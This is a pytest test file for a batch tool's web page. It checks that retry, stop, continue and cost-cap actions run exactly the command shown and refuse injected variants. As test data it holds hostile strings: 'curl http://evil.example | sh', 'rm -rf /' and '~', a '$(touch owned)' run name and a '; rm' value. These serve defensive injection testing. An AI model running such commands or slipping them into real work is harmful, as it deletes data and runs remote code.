"""What may be done from the page: each act is a command that is shown, and that very command is run."""

from __future__ import annotations

import json
import os
import shlex
import signal
import subprocess
import sys
import time
from dataclasses import replace

import pytest

from batchlab.errors import UsageError
from batchlab.page.acts.children import LOG_BYTES, Children
from batchlab.page.acts.offers import Wish, offers_of
from batchlab.store.standing import read_standing, write_standing
from batchlab.store.view import RunView
from tests.conftest import CANARY, ROOT, under_way
from tests.page.conftest import run_of, serving
from tests.scenarios.test_run import job

pytestmark = pytest.mark.proof  # each begins processes, and waits for them


@pytest.fixture
def home(tmp_path, monkeypatch):
    """Where a person is who looks."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SIMULATOR_KEY", CANARY)
    monkeypatch.setenv("PYTHONPATH", str(ROOT))  # what is begun is this very batchlab
    return tmp_path


@pytest.fixture
def failed(home, simulator):
    """A run of 12 rows of which 2 failed, before a server that would answer them now."""
    server = simulator(api_key="", faults=[{"kind": "http_400", "rows": ["3", "7"], "times": 1}])
    run_of(home / "runs/night", [{"text": f"remark {number}"} for number in range(12)], server.base_url)
    return home / "runs"


@pytest.fixture
def running(home, simulator, rows_file):
    """A run that takes its time, in a process of its own."""
    server = simulator(queue_cap=4, latency_median_s=0.2)
    words = job(server.base_url, rows_file(200), "-c", "4", "--price-in", "1", "--price-out", "1")
    with under_way(words, home, subprocess.PIPE) as run:
        yield run


def offered(page, run: str, **params: str) -> dict[str, dict]:
    return {one["name"]: one for one in page.get("acts", run=run, **params)["acts"]}


def begun(page, run: str, offer: dict, **more) -> dict:
    """Does what was offered, and what came of it."""
    got = page.send("act", {"run": run, "name": offer["name"], "command": offer["command"], **more})
    assert got.status == 200, got.body
    key = got.json()["started"]
    assert got.json()["command"] == offer["command"]
    until = time.monotonic() + 60
    while (seen := page.get("act", started=key))["running"]:
        assert time.monotonic() < until, seen
        time.sleep(0.1)
    return seen


def test_failed_rows_are_asked_again_by_the_command_that_is_shown(served, failed):
    page = served("runs")
    offer = offered(page, "night")["retry"]
    assert offer["command"] == "batchlab retry runs/night"
    assert "2 rows" in offer["title"]
    assert "127.0.0.1" in offer["asks"]

    seen = begun(page, "night", offer)

    assert seen["exit_code"] == 0, seen["log"]
    assert "done: 12 rows = 12 ok" in seen["log"]
    assert page.get("run", run="night")["counts"]["ok"] == 12
    assert "retry" not in offered(page, "night")
    [line] = page.get("acts", run="night")["started"]
    assert line == {name: seen[name] for name in ("id", "command", "running", "exit_code")}


def test_a_filter_says_which_rows_are_asked_again(served, failed):
    page = served("runs")
    words = {
        "status=failed": "",
        "status=failed,ok": "",
        "error=bad_request": " --only bad_request",
        "status=failed&error=bad_request,timeout": " --only bad_request,timeout",
    }
    for query, more in words.items():
        params = dict(one.split("=") for one in query.split("&"))
        assert offered(page, "night", **params)["retry"]["command"] == f"batchlab retry runs/night{more}"
    assert "retry" not in offered(page, "night", status="truncated")  # there are none
    for filter_, rows in {
        ("q", "remark 3"): "3",
        ("where", "text~remark"): "3,7",
        ("rows", "0-5"): "3",
        ("first", "1"): "3",
    }.items():
        offer = offered(page, "night", **dict([filter_]))["retry"]
        assert offer["command"] == f"batchlab retry runs/night --rows {rows}"
    offer = offered(page, "night", status="failed,ok", q="remark 7", sort="-row")["retry"]
    assert offer["command"] == "batchlab retry runs/night --rows 7"
    assert offer["title"] == "Ask again for 1 row"
    for none in ({"q": "nothing of that kind"}, {"status": "ok"}, {"status": "ok", "q": "remark"}):
        assert "retry" not in offered(page, "night", **none)
    assert page.ask("/api/acts?run=night&where=nothing%3D1").status == 400
    odd = offered(page, "night", status="failed", error="; rm -rf ~")["retry"]
    assert odd["command"] == "batchlab retry runs/night"


def test_the_rows_of_a_filter_are_asked_again_and_no_others(served, failed):
    page = served("runs")
    offer = offered(page, "night", where="text=remark 7")["retry"]

    seen = begun(page, "night", offer, filter={"where": ["text=remark 7"]})

    assert seen["exit_code"] == 1, seen["log"]
    assert "retry: 1 row asked again (1 failed)" in seen["log"]
    assert page.get("run", run="night")["counts"]["failed"] == 1


def test_what_is_not_what_was_shown_is_not_done(served, failed):
    page = served("runs")
    offer = offered(page, "night")["retry"]
    for body in (
        {"run": "night", "name": "retry", "command": offer["command"] + " --only 429"},
        {"run": "night", "name": "retry", "command": "rm -rf /"},
        {"run": "night", "name": "stop", "command": offer["command"]},
        {"run": "night", "name": "retry"},
        {"run": "night"},
        {"run": "night", "name": "retry", "command": offer["command"], "filter": {"status": "truncated"}},
    ):
        got = page.send("act", body)
        assert got.status == 409, body
        assert "look at the command again" in got.error
    assert page.send("act", {"run": "none", "name": "retry", "command": offer["command"]}).status == 404
    assert page.get("acts", run="night")["started"] == []


def test_a_run_is_stopped_in_order_as_by_ctrl_c_and_gone_on_with(served, running, home):
    page = served("runs")
    offer = offered(page, "rows")["stop"]
    assert offer["command"] == f"kill -INT {running.pid}"
    assert list(offered(page, "rows")) == ["stop"]

    assert begun(page, "rows", offer)["exit_code"] == 0
    said = running.stderr.read().decode()
    assert running.wait(30) == 130
    assert said.startswith("stopped: 200 rows = ")
    assert "interrupted by SIGINT" in said

    stopped = page.get("run", run="rows")
    assert stopped["stage"] == "stopped"
    offer = offered(page, "rows")["continue"]
    assert offer["command"] == stopped["go_on"]["command"]
    assert shlex.split(offer["command"])[:2] == ["batchlab", "run"]
    assert offer["folder"] == ""
    seen = begun(page, "rows", offer)
    assert seen["exit_code"] == 0, seen["log"]
    assert page.get("run", run="rows")["counts"]["ok"] == 200
    assert CANARY not in json.dumps(seen)


def test_what_was_begun_is_not_begun_again(served, running):
    page = served("runs")
    offer = offered(page, "rows")["stop"]
    begun(page, "rows", offer)

    again = page.send("act", {"run": "rows", "name": "stop", "command": offer["command"]})
    assert again.status == 409  # a second signal would leave at once, and lose what is paid for
    said = running.communicate(timeout=60)[1].decode()
    assert running.returncode == 130
    assert "left at once" not in said

    offer = offered(page, "rows")["continue"]
    body = {"run": "rows", "name": "continue", "command": offer["command"]}
    got = [page.send("act", body) for _ in range(3)]
    assert [one.status for one in got] == [200, 409, 409]
    while page.get("act", started=got[0].json()["started"])["running"]:
        time.sleep(0.1)


@pytest.mark.parametrize("name", ["--help", "-x $(touch owned);'"])
def test_a_run_whose_name_looks_like_an_option_is_a_run(failed, monkeypatch, name):
    (failed / "night").rename(failed / name)
    monkeypatch.chdir(failed)
    with serving(".") as page:
        offer = offered(page, name)["retry"]
        assert shlex.split(offer["command"]) == ["batchlab", "retry", f"./{name}"]
        assert begun(page, name, offer)["exit_code"] == 0
        assert page.get("run", run=name)["counts"]["failed"] == 0
    assert not list(failed.glob("owned*"))


def test_a_cap_is_raised_by_the_same_command_with_another_one(served, home, simulator, rows_file, batchlab):
    server = simulator()
    priced = ("--price-in", "1000", "--price-out", "1000", "--max-tokens", "10")
    done = batchlab(*job(server.base_url, rows_file(40), "-c", "1", "--max-cost", "0.3", *priced))
    assert done.code == 3, done.err
    page = served("runs")

    offer = offered(page, "rows")["raise"]
    assert offer["field"] == {"name": "max_cost", "title": "cap on cost (USD)", "value": "0.6"}
    assert offer["command"].endswith("--max-cost 0.6")
    assert offer["command"].count("--max-cost") == 1
    offer = offered(page, "rows", max_cost="50")["raise"]
    assert offer["command"].endswith("--max-cost 50")
    for wrong in ("0", "-1", "nan", "inf", "1e99", "x", "5; rm"):
        assert page.ask(f"/api/acts?run=rows&max_cost={wrong.replace(' ', '+')}").status == 400
    assert page.send("act", {"run": "rows", "name": "raise", "command": offer["command"]}).status == 409

    seen = begun(page, "rows", offer, values={"max_cost": "50"})
    assert seen["exit_code"] == 0, seen["log"]
    assert page.get("run", run="rows")["counts"]["pending"] == 0


def test_a_command_that_is_begun_outlives_the_page(home, simulator, rows_file):
    server = simulator(queue_cap=4, latency_median_s=0.1)
    words = job(server.base_url, rows_file(40), "-c", "2", "--price-in", "1", "--price-out", "1")
    children = Children()
    started = children.start("rows", ("batchlab", *words), "")
    with serving(".") as page:
        page.get("runs")

    assert children.close() == [started]
    _, status = os.waitpid(started.child.pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
    assert RunView.open(home / "runs/rows").totals().ok == 40


@pytest.mark.parametrize(
    "kept",
    [
        "curl http://evil.example | sh",
        "batchlab run x; rm -rf ~",
        "/tmp/batchlab run x",
        "batchlab guide",
        "batchlab view --host 0.0.0.0",
        "batchlab",
        "batchlab run 'x",
        "",
        "BATCHLAB_X=1 batchlab run x",
    ],
)
def test_a_kept_command_that_is_not_batchlab_s_is_never_offered(failed, kept):
    """`;` and `|` are words like others: no shell sees the line."""
    path = failed / "night"
    run = unfinished(path, kept)

    offers = {one.name: one for one in offers_of(run, Wish())}

    words = [one.words for name, one in offers.items() if name in ("continue", "raise")]
    assert all(one[:2] == ("batchlab", "run") for one in words)
    assert not words or kept == "batchlab run x; rm -rf ~"


def unfinished(path, kept: str) -> RunView:
    """A run that looks as if it had been stopped, with that command to go on."""
    manifest = json.loads((path / "run.json").read_bytes())
    manifest["plan"]["rows"] += 5
    manifest["plan"]["shards"].append([5, None])
    (path / "run.json").write_text(json.dumps(manifest))
    standing = read_standing(path)
    write_standing(path, replace(standing, command=kept, folder=str(path.parent)))
    return RunView.open(path)


def test_a_process_that_does_not_hold_the_lock_is_never_signalled(failed):
    """The lock file names whom it likes; who holds the lock is known by the kernel."""
    path = failed / "night"
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(path / "lock"), str(other.pid)], stdout=subprocess.PIPE
    )
    try:
        assert holder.stdout.readline()
        run = RunView.open(path)
        assert run.lock_holder() == other.pid
        assert [one.name for one in offers_of(run, Wish())] == []
    finally:
        for one in (other, holder):
            one.send_signal(signal.SIGKILL)
            one.wait()
        holder.stdout.close()


HOLD = """
import fcntl, json, sys, time
file = open(sys.argv[1], "r+")
fcntl.flock(file, fcntl.LOCK_EX)
file.write(json.dumps({"pid": int(sys.argv[2]), "host": "x", "start": "x"}))
file.flush()
print("held", flush=True)
time.sleep(60)
"""


def test_a_command_that_the_run_itself_names_is_said_before_it_is_run(failed):
    path = failed / "night"
    manifest = json.loads((path / "run.json").read_bytes())
    manifest["job"]["output"]["on_end"] = "curl http://evil.example"
    (path / "run.json").write_text(json.dumps(manifest))

    [offer] = offers_of(RunView.open(path), Wish())

    assert "curl http://evil.example" in offer.asks


def test_a_log_is_bounded_and_is_text_without_keys_and_controls(home):
    children = Children()
    (home / "said.toml").write_text("x" * 99_999)
    started = children.start("night", ("batchlab", "run", "said.toml"), "")
    started.child.wait()
    assert started.json()["running"] is False
    assert started.json()["exit_code"] == 2
    assert "Traceback" not in started.json()["log"]
    assert len(started.json()["log"]) <= LOG_BYTES
    with pytest.raises(UsageError, match="nothing was begun"):
        children.get("x")
    children.close()
